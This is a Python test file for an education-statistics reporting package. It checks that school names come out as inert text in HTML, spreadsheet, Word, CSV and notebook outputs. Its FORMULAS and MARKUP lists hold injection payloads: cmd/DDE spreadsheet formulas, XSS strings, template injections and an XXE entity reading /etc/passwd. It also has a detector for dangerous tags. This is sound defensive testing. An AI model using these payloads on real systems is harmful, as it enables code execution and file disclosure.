"""What comes from a table is written as text: no formula in a spreadsheet, no element in a page, in any format."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import docx
import nbformat
import openpyxl
import pytest
from html_reading import Element, read_html
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import MakeSchools
from qualityedu import figures, tables
from qualityedu.datasets import Dataset
from qualityedu.findings import appraise, overview
from qualityedu.intake import check
from qualityedu.intake.answer.marking import mark_copy
from qualityedu.intake.template.book import write_template
from qualityedu.release import Release, releasable, releasable_overview
from qualityedu.render import html_page, render
from qualityedu.report.codebook import write_codebook
from qualityedu.report.index import write_index
from qualityedu.report.plan import Job
from qualityedu.report.request import Request
from qualityedu.report.supervise import Made
from qualityedu.tables import export_findings, safe_csv

FORMULAS = [
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"x")',
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><h1>x</h1>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "{{ 7*7 }}{% print 1 %}",
    "${7*7}#{7*7}`id`",
    "<iframe src=//example.org>",
    "#eval(1) #include \"x\" $x$ \\input{x}",
    "<w:p>&amp;<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
]  # fmt: skip
# What a figure's labels could be taken for.
FORMULA_OF_TEX = r"$\frac{1}{$ and $x^2$"
# Intake drops what cannot be seen around a name, so a tab or carriage return does not come so far.
EVERY = [*(text.strip() for text in FORMULAS), *MARKUP, FORMULA_OF_TEX]
DANGEROUS = {"script", "iframe", "object", "embed", "form", "input", "link", "base", "svg", "math"}


def _hostile(make: MakeSchools) -> Release:
    """A county in which every name is an attack."""
    rows = [
        {
            "school": f"S{place:02d}",
            "school_name": text,
            "region_name": MARKUP[1],
            "pupils": 400 + place,
            "teachers": 20 + place % 7,
            "backbone_teachers": 1 + place % 5,
            "equipment_value": 500_000 + 70_000 * place,
            "candidates": 300,
            "passed_candidates": 150 + place,
        }
        for place, text in enumerate(EVERY)
    ]
    table = make(rows, year=2022)
    title = {"zh": MARKUP[0], "en": MARKUP[3]}
    dataset = Dataset(
        id="hostile", table=Path("x.csv"), title=title, source={"zh": MARKUP[2], "en": MARKUP[4]}, licence=FORMULAS[0]
    )
    return releasable(appraise(overview(table, dataset, year=2022), "330106"))


@pytest.fixture(scope="module")
def hostile(make_schools: MakeSchools) -> Release:
    return _hostile(make_schools)


def _pieces(release: Release, lang: str) -> list[str]:
    made = [
        *(make(release, lang) for make in (tables.heading, tables.headline, tables.shortfalls, tables.ledger)),
        figures.schools_section(release, lang),
        figures.verdict_section(release, lang),
        tables.county_verdict(release, lang),
        *(make(release, lang) for make in (tables.summary, tables.method)),
    ]
    return [piece._repr_html_() for piece in made]


def _attacks(elements: list[Element]) -> list[str]:
    found = [each.tag for each in elements if each.tag in DANGEROUS]
    found += [f"{each.tag} {name}" for each in elements for name in each.attributes if name.startswith("on")]
    addresses = [
        value
        for each in elements
        for name, value in each.attributes.items()
        if name in ("href", "src", "action", "style")
    ]
    return found + [
        value for value in addresses if re.match(r"\s*(javascript|vbscript|https?|//|data:text)", value, re.I)
    ]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_name_becomes_an_element_of_the_page(hostile: Release, lang: str) -> None:
    page = html_page(_pieces(hostile, lang), title=MARKUP[3], lang=lang, footer=MARKUP[0])
    reading = read_html(page)
    assert _attacks(reading.elements) == []
    assert len(reading.all("title")) == 1
    assert len(reading.all("style")) == 1
    assert reading.all("title")[0].text == MARKUP[3], "said as it stands"
    said = " ".join(each.text for each in reading.all("main"))
    assert sum(" ".join(text.split()) in " ".join(said.split()) for text in MARKUP[5:]) >= 5, "and the names are there"
    alts = [each.attributes.get("alt", "") for each in reading.all("img")]
    assert alts
    assert all(alts)


@given(st.text(st.sampled_from("<>&\"'/=;`{}()aAsScCrRiIpPtToOnN :\x00\u2028"), max_size=40))
@settings(max_examples=150, deadline=None)
def test_no_text_at_all_becomes_an_element(text: str) -> None:
    table = tables.html_table(text, [text, text], [[text, text]])
    page = html_page([tables.paragraph(text).html, table.html], title=text, lang="en", footer=text)
    plain = html_page([tables.paragraph("x").html, tables.html_table("x", ["x", "x"], [["x", "x"]]).html],
                      title="x", lang="en", footer="x")  # fmt: skip
    assert [each.tag for each in read_html(page).elements] == [each.tag for each in read_html(plain).elements]
    assert _attacks(read_html(page).elements) == []


def test_the_search_for_attacks_finds_one() -> None:
    for text in (*MARKUP[:3], MARKUP[6], MARKUP[9]):
        assert _attacks(read_html(f"<p>{text}</p>").elements), text


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_page_that_is_written_has_its_policy(hostile: Release, lang: str, tmp_path: Path) -> None:
    job = Job(Request("region_report", {"region": MARKUP[0], "year": 2022, "lang": lang}), hostile.dataset,
              title=MARKUP[3], name=MARKUP[1], units=5)  # fmt: skip
    made = [Made(job, "failed", reason=MARKUP[2]), Made(job, "failed", headline=(MARKUP[5], FORMULAS[0]), reason="x")]
    write_index(made, into=tmp_path, lang=lang)
    write_codebook(tmp_path / "codebook", lang=lang)
    pages = sorted(tmp_path.rglob("*.html"))
    assert len(pages) >= 2
    for path in pages:
        text = path.read_text(encoding="utf-8")
        reading = read_html(text)
        policies = [each.attributes["content"] for each in reading.all("meta") if "http-equiv" in each.attributes]
        assert len(policies) == 1
        assert "default-src 'none'" in policies[0]
        assert "unsafe-eval" not in policies[0]
        assert not re.search(r"script-src[^;]*(unsafe-inline|\*|https?:)", policies[0])
        scripts = reading.all("script")
        assert len(scripts) == policies[0].count("'sha256-"), "a script is let in by its hash or not at all"
        assert [each for each in _attacks(reading.elements) if each not in ("script", "input")] == []
        before = text.index("http-equiv")
        assert before < text.index("<body"), "and before anything that comes from a table"


def _formula_cells(path: Path) -> list[str]:
    """Every formula of a workbook, from its XML itself."""
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if re.fullmatch(r"xl/worksheets/[^/]+\.xml", name)]
        return [each for name in sheets for each in re.findall(r"<f[ >][^<]*", archive.read(name).decode("utf-8"))]


def _links(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        parts = [name for name in archive.namelist() if name.endswith(".rels")]
        return [each for name in parts for each in re.findall(r'TargetMode="External"', archive.read(name).decode())]


def test_the_search_for_formulas_finds_one(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = FORMULAS[0]
    book.save(tmp_path / "x.xlsx")
    assert _formula_cells(tmp_path / "x.xlsx")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_format_of_a_report_runs_a_name(hostile: Release, lang: str, tmp_path: Path) -> None:
    cells = [
        nbformat.v4.new_code_cell("", outputs=[nbformat.v4.new_output("execute_result", {"text/html": piece})])
        for piece in _pieces(hostile, lang)
    ]
    facts = {"id": FORMULAS[0], "dataset": MARKUP[0], "source": MARKUP[10], "licence": MARKUP[11], "year": 2022}
    made = render(nbformat.v4.new_notebook(cells=cells), into=tmp_path, title=MARKUP[3], lang=lang, facts=facts)
    assert made.failed == {}
    assert _formula_cells(made.files["xlsx"]) == []
    assert _links(made.files["xlsx"]) == _links(made.files["docx"]) == []
    book = openpyxl.load_workbook(made.files["xlsx"])
    values = [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    # The schools that the ledger and the bars name are there as they were written.
    assert sum(any(text.strip() in value for value in values) for text in EVERY) > 10
    word = docx.Document(str(made.files["docx"]))
    said = "\n".join(cell.text for table in word.tables for row in table.rows for cell in row.cells)
    assert MARKUP[5] in said or MARKUP[9] in said
    with zipfile.ZipFile(made.files["docx"]) as archive:
        document = archive.read("word/document.xml").decode("utf-8")
    assert "<!ENTITY" not in document
    assert "w:instrText" not in re.sub(r"<w:instrText[^>]*>\s*(PAGE|NUMPAGES)\s*</w:instrText>", "", document)
    assert _attacks(read_html(made.files["html"].read_text(encoding="utf-8")).elements) == []


@given(st.text(st.sampled_from("=+-@\t\r\n,;'\"|!A1 0.9"), min_size=1, max_size=12))
@settings(max_examples=200, deadline=None)
def test_no_cell_of_a_csv_begins_a_formula(text: str) -> None:
    written = safe_csv(["a", "b"], [{"a": text, "b": -1.5}]).removeprefix("\ufeff")
    _, row = list(csv.reader(io.StringIO(written, newline="")))
    assert row[0] in (text, f"'{text}")
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row[1] == "-1.5", "a number stays a number"


def test_the_findings_that_are_saved(hostile: Release, tmp_path: Path) -> None:
    export_findings(hostile, tmp_path / "one", lang="zh")
    for path in tmp_path.rglob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        assert len(rows) > 5
        begun = [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
        assert begun == []
        assert [cell for row in rows for cell in row if cell.startswith("-") and not _is_number(cell)] == []


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-[0-9.]+(e-?[0-9]+)?", text) is not None


def test_the_index_as_csv(hostile: Release, tmp_path: Path) -> None:
    jobs = [Job(Request("region_report", {"region": text, "year": 2022, "lang": "zh"}), hostile.dataset, title=text,
                name=text, units=5) for text in FORMULAS]  # fmt: skip
    write_index([Made(job, "failed", reason=job.name) for job in jobs], into=tmp_path, lang="zh")
    (path,) = tmp_path.glob("*.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def _office_file(folder: Path) -> Path:
    path = folder / "学校.csv"
    rows = [["区县代码", "学校标识码", "学校名称", "学段", "学年", "在校生数", "专任教师数"]]
    rows += [
        ["999901", f"99990100{n:02d}", text.strip(), "小学", "2023", "三百", "20"] for n, text in enumerate(FORMULAS)
    ]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_marked_copy_for_the_office(lang: str, tmp_path: Path) -> None:
    path = _office_file(tmp_path)
    marked = mark_copy(path, check(path, lang=lang).problems, lang)
    assert marked.cells >= len(FORMULAS)
    assert _formula_cells(marked.path) == []
    values = {cell.value for sheet in openpyxl.load_workbook(marked.path) for row in sheet.iter_rows() for cell in row}
    assert {text.strip() for text in FORMULAS} <= values, "every name as it was"


@pytest.mark.parametrize("lang", ["zh", "en", "both"])
def test_the_template_has_no_formula_in_a_cell(lang: str, tmp_path: Path) -> None:
    path = write_template(tmp_path / "t.xlsx", lang=lang, year=2023)
    assert _formula_cells(path) == []
    assert _links(path) == []


def test_the_tables_of_all_regions(hostile: Release, make_schools: MakeSchools) -> None:
    rows = [{"region": f"33010{n}", "region_name": text, "school": f"{n}{m}", "school_name": text, "pupils": 300 + m,
             "fitness_tested": 300, "fitness_good_excellent": 100 + n + m, "candidates": 300, "passed_candidates": 200}
            for n, text in enumerate(MARKUP[:8]) for m in range(4)]  # fmt: skip
    seen = releasable_overview(overview(make_schools(rows, year=2022), hostile.dataset, year=2022))
    pieces = [tables.regions_heading(seen, "quality_and_exam", "en"), tables.regions_table(seen, "en"),
              figures.aims_section(seen, "en")]  # fmt: skip
    page = html_page([piece._repr_html_() for piece in pieces], title="x", lang="en")
    assert _attacks(read_html(page).elements) == []
    assert "alert(1)" in page, "the names are there, as text"


def test_what_is_said_of_the_data_is_json_that_closes_no_script(hostile: Release, tmp_path: Path) -> None:
    export_findings(hostile, tmp_path, lang="en")
    described = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert MARKUP[3] in described["title"]
